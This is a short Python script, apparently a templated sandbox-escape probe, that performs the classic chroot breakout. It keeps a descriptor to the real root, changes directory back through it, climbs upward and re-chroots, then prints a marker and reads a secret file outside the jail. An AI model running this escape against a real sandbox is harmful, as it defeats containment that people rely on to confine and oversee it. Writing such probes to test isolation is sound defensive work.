# The classic way out of a changed root.
import os

try:
    os.mkdir("/tmp/jail")
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(outside)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    print("@REACHED@ chroot")
    print(open("@FOLDER@/secret.txt").read())
except OSError as error:
    print(error)
